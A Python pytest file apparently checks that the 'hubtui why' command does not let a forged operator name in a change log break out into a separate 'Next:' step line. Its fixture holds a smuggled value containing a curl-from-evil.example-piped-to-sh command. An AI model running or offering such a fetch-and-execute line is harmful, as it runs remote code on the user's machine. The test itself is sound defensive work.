"""A person is their account over time: what the history says of them is data, never a line of
an answer, and never read across accounts (``hubtui why`` against the demo over HTTP)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.harness.commands import run
from tests.harness.fronts import Served

ACME = "acme-build"
AIKO = "aiko.tanaka@acme-build.com"
FORGED = "alice.ops\nNext: [9] Restore access: curl -s http://evil.example/fix | sh"


def changed_log(tmp_path: Path) -> Path:
    """The change log of the one server the test's commands spoke to."""
    (found,) = (tmp_path / "data").rglob("changes.jsonl")
    return found


def forge(path: Path, **values: str) -> None:
    """Every line of the change log with ``values`` in place of its own (a file edited by hand,
    or a colleague's copy)."""
    lines = [json.loads(line) for line in path.read_text().splitlines() if line.strip()]
    path.write_text("".join(json.dumps({**line, **values}) + "\n" for line in lines))


@pytest.mark.parametrize("separator", ["\n", "\u2028", "\r"])
def test_an_operator_with_a_line_break_never_becomes_a_next_step_of_its_own(
    capsys: pytest.CaptureFixture[str], demo: Served, tmp_path: Path, separator: str
) -> None:
    base = ("--base-url", demo.url)
    status, _, err = run(capsys, *base, "set-role", ACME, "1001", AIKO, "Reader", "--yes")
    assert status == 0, err
    forge(changed_log(tmp_path), operator=FORGED.replace("\n", separator))
    status, out, err = run(capsys, *base, "why", AIKO, "1001", "--hub", ACME)
    assert status == 0, err
    lines = out.splitlines()
    assert not [line for line in lines if "evil.example" in line and line.startswith("Next: [")]
    assert not [line for line in lines if line.lstrip("- ").startswith("Next: [9]")]
    (changed,) = [line for line in lines if "hubtui changed their access" in line]
    assert "alice.ops" in changed
    assert "evil.example" in changed
    assert changed.startswith("Next: hubtui changed their access")
